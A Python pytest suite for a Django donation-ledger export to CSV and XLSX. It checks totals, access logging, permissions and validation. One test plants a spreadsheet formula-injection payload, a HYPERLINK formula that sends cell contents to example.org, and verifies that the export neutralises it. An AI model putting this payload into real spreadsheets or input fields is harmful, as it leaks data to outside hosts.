"""The accounts as a file: they add up to the ledger to the øre, no cell runs, and each giver named in it is logged."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.db.models import F, Sum
from django.utils import timezone
from openpyxl import load_workbook

from core.models import AccessLog
from donations import exporting
from donations.booking import book, book_against
from donations.models import LedgerEntry, LedgerKind, PledgeKind, VatTreatment
from donations.states import PledgeState
from tests.donations.factories import DONOR, PLANTED, make_campaign, make_pledge
from tests.signup.staff.admin import outcome

pytestmark = pytest.mark.django_db

EXPORT = "/admin/giving/export/"
YEAR = {"first": "2025-01-01", "last": "2025-12-31", "purpose": "bookkeeping"}
ORE = ["amount_ore", "vat_ore", "fee_ore"]


def table(response, file_format: str) -> list[list]:
    """The rows between the lines that say who took the file, headings first."""
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return rows[1:-1]


def take(client, file_format: str = "csv", **changes):
    return client.post(EXPORT, YEAR | {"file_format": file_format} | changes)


def at(month: int, day: int, hour: int = 12) -> datetime:
    return datetime(2025, month, day, hour, tzinfo=UTC)


def pay(pledge, when: datetime, number: int = 1) -> LedgerEntry:
    entry, _is_new = book(
        kind=LedgerKind.SPONSORSHIP if pledge.kind == PledgeKind.SPONSORSHIP else LedgerKind.GIFT,
        external_id=f"pi_{pledge.pk.hex}_{number}",
        payment_reference=f"pi_{pledge.pk.hex}_{number}",
        pledge=pledge,
        campaign_key=pledge.campaign_key,
        amount_ore=pledge.amount_ore,
        vat_ore=pledge.vat_ore,
        fee_ore=pledge.fee_ore,
        currency="DKK",
        occurred_at=when,
        livemode=pledge.livemode,
        method=pledge.method,
    )
    return entry


def a_year() -> None:
    """A year with renewals, odd øre, refunds in part, a refund that failed, disputes lost and won, a correction."""
    campaign = make_campaign()
    monthly = make_pledge(campaign_key=campaign.translation_key, amount_ore=99_95, fee_ore=3_33, state=PledgeState.PAID)
    renewals = [pay(monthly, at(month, 3), number=month) for month in range(1, 13)]
    sponsor = make_pledge(
        campaign_key=campaign.translation_key,
        amount_ore=3_333_33,
        vat_ore=666_67,
        kind=PledgeKind.SPONSORSHIP,
        vat_treatment=VatTreatment.SPONSORSHIP_25,
        state=PledgeState.PAID,
    )
    paid = pay(sponsor, at(2, 28))
    moves = [
        (renewals[0], LedgerKind.REFUND, "re_1", -99_95, at(1, 10)),
        (renewals[1], LedgerKind.REFUND, "re_2", -33_32, at(2, 10)),
        (renewals[2], LedgerKind.REFUND, "re_3", -99_95, at(3, 10)),
        (renewals[2], LedgerKind.REFUND_REVERSED, "re_3", 99_95, at(3, 12)),
        (paid, LedgerKind.DISPUTE, "dp_1", -3_333_33, at(4, 1)),
        (paid, LedgerKind.DISPUTE_REVERSED, "dp_1", 3_333_33, at(5, 1)),
        (renewals[3], LedgerKind.DISPUTE, "dp_2", -99_95, at(6, 1)),
        (paid, LedgerKind.REFUND, "re_4", -1_111_11, at(7, 1)),
        (renewals[4], LedgerKind.CORRECTION, "co_1", -7, at(8, 1)),
    ]
    for gift, kind, external_id, amount_ore, when in moves:
        book_against(gift=gift, kind=kind, external_id=external_id, amount_ore=amount_ore, occurred_at=when)
    other = make_pledge(campaign_key=campaign.translation_key, state=PledgeState.PAID)
    pay(other, datetime(2024, 12, 31, 22, 59, tzinfo=UTC))  # The year before, in Denmark too.
    pay(other, datetime(2025, 12, 31, 23, 0, tzinfo=UTC), number=2)  # 2026 in Denmark.
    live = make_pledge(campaign_key=campaign.translation_key, livemode=True, state=PledgeState.PAID)
    pay(live, at(3, 3))


def ledger_of_the_year() -> dict[str, int]:
    """What the database sums up for the year in Denmark, apart from any code of the export."""
    entries = LedgerEntry.objects.filter(
        livemode=False,
        occurred_at__gte=datetime(2024, 12, 31, 23, tzinfo=UTC),
        occurred_at__lt=datetime(2025, 12, 31, 23, tzinfo=UTC),
    )
    sums = entries.aggregate(**{f"sum_{name}": Sum(name) for name in ORE})
    net = entries.aggregate(net=Sum(F("amount_ore") - F("vat_ore") - F("fee_ore")))["net"]
    return {name: sums[f"sum_{name}"] for name in ORE} | {"net_ore": net, "rows": entries.count()}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_year_with_renewals_refunds_and_disputes_adds_up_to_the_ledger_to_the_ore(client, accountant, file_format):
    a_year()
    expected = ledger_of_the_year()

    headings, *rows, sums = table(take(client, file_format), file_format)
    columns = {code: position for position, code in enumerate(exporting._COLUMNS)}

    def ore(row, code: str) -> int:
        return int(row[columns[code]])

    def kroner(row, code: str) -> int:
        text = str(row[columns[code]]).replace(",", ".")
        return int((Decimal(text) * 100).to_integral_value())

    assert (len(headings), len(rows), expected["rows"]) == (len(columns), 22, 22)
    for code in ("amount", "vat", "fee", "net"):
        in_ore = sum(ore(row, f"{code}_ore") for row in rows)
        assert in_ore == sum(kroner(row, code) for row in rows) == expected[f"{code}_ore"]
        assert (ore(sums, f"{code}_ore"), kroner(sums, code)) == (in_ore, in_ore)
    assert all(
        ore(row, "net_ore") == ore(row, "amount_ore") - ore(row, "vat_ore") - ore(row, "fee_ore") for row in rows
    )
    assert (expected["amount_ore"], expected["vat_ore"]) == (
        12 * 99_95 + 3_333_33 - 99_95 - 33_32 - 99_95 - 1_111_11 - 7,
        666_67 - 222_22,
    )


def test_row_says_what_the_accountant_needs(client, accountant):
    pledge = make_pledge(campaign_key=make_campaign().translation_key, state=PledgeState.PAID, amount_ore=250_50)
    entry = pay(pledge, at(12, 30, hour=23))

    headings, row, _sums = table(take(client), "csv")

    assert dict(zip(headings, row, strict=True)) == dict(
        zip(
            headings,
            [
                "2025-12-31",
                str(entry.pk),
                entry.get_kind_display(),
                "Stå bag en mentor",
                entry.receipt.reference,
                entry.payment_reference,
                entry.get_method_display(),
                DONOR["company"],
                DONOR["cvr"],
                "250,50",
                "0,00",
                "0,00",
                "250,50",
                "25050",
                "0",
                "0",
                "25050",
                "DKK",
                "",
                "",
                "",
            ],
            strict=True,
        )
    )


def test_each_giver_in_the_file_is_logged_once_with_the_purpose_before_it_is_named(client, accountant):
    pledge = make_pledge(state=PledgeState.PAID)
    pay(pledge, at(3, 1))
    pay(pledge, at(4, 1), number=2)

    take(client, purpose="audit")

    logged = list(AccessLog.objects.values_list("subject_kind", "subject_id", "user_name", "purpose", "what"))
    assert logged == [("giver", str(pledge.pk), "Accounting", "audit", "export_giver")]


def test_whoever_may_not_see_who_gives_gets_the_sums_without_names(client, accountant):
    for group in accountant.groups.all():
        group.permissions.remove(*group.permissions.filter(codename="open_giver"))
    pay(make_pledge(state=PledgeState.PAID), at(3, 1))

    response = take(client)
    headings, _row, sums = table(response, "csv")

    assert [word for word in PLANTED if word in response.content.decode()] == []
    assert (len(headings), sums[7]) == (len(exporting._COLUMNS) - 2, "200,00")
    assert not AccessLog.objects.exists()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_cell_is_a_formula_and_amounts_that_went_back_are_numbers(client, accountant, file_format):
    formula = '=HYPERLINK("https://example.org/?"&A1,"click")'
    pledge = make_pledge(state=PledgeState.PAID)
    pledge.seal_donor(DONOR | {"company": formula})
    pledge.save()
    gift = pay(pledge, at(3, 1))
    book_against(gift=gift, kind=LedgerKind.REFUND, external_id="re_1", amount_ore=-50_50, occurred_at=at(3, 2))

    response = take(client, file_format)

    if file_format == "csv":
        rows = table(response, "csv")
        assert [row[9] for row in rows[1:]] == ["200,00", "-50,50", "149,50"]
        assert {row[7] for row in rows[1:3]} == {"'" + formula}
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = list(sheet.iter_rows(min_row=3, max_row=5))
        assert [row[9].value for row in cells] == [200, -50.5, 149.5]
        assert {row[9].number_format for row in cells} == {"0.00"}
        assert {row[7].data_type for row in cells[:2]} == {"s"}


@pytest.mark.parametrize(
    ("changes", "wrong"),
    [
        ({"purpose": ""}, "purpose"),
        ({"purpose": "thanks"}, "purpose"),
        ({"first": "2026-01-01"}, "last"),
        ({"first": "yesterday"}, "first"),
        ({"file_format": "pdf"}, "file_format"),
    ],
)
def test_what_is_missing_or_made_up_is_refused_and_nothing_written_down(client, accountant, changes, wrong):
    pay(make_pledge(state=PledgeState.PAID), at(3, 1))

    response = take(client, **changes)

    assert (response.status_code, list(response.context["form"].errors)) == (422, [wrong])
    assert not AccessLog.objects.exists()


def test_more_than_a_file_holds_is_refused_with_the_number(client, accountant, monkeypatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 1)
    pay(make_pledge(state=PledgeState.PAID), at(3, 1))
    pay(make_pledge(state=PledgeState.PAID), at(3, 2))

    response = take(client)

    assert response.status_code == 422
    assert "2 " in response.context["form"].non_field_errors()[0]
    assert not AccessLog.objects.exists()


def test_export_is_for_those_with_the_right_and_never_by_a_get(client, member):
    answers = {}
    for group in ("Accounting", "Fundraising", "Matching team"):
        client.force_login(member(group))
        answers[group] = (outcome(client.get(EXPORT, YEAR)), outcome(take(client)))

    assert answers == {
        "Accounting": ("200", "200"),
        "Fundraising": ("refused", "refused"),
        "Matching team": ("refused", "refused"),
    }


def test_many_entries_of_one_giver_ask_as_few_queries_as_three(accountant, django_assert_max_num_queries):
    pledge = make_pledge(campaign_key=make_campaign().translation_key, state=PledgeState.PAID)
    for number in range(3):
        pay(pledge, at(3, 1), number=number)
    period = exporting.Period(first=date(2025, 1, 1), last=date(2025, 12, 31))

    with django_assert_max_num_queries(8):
        exporting.take(period=period, purpose="audit", file_format="csv", user=accountant)


def test_erased_giver_is_left_out_and_not_logged(client, accountant):
    pledge = make_pledge(state=PledgeState.PAID)
    pay(pledge, at(3, 1))
    pledge.giver_erased_at = timezone.now() - timedelta(days=1)
    pledge.save(update_fields=["giver_erased_at"])

    response = take(client)

    assert [word for word in PLANTED if word in response.content.decode()] == []
    assert not AccessLog.objects.exists()
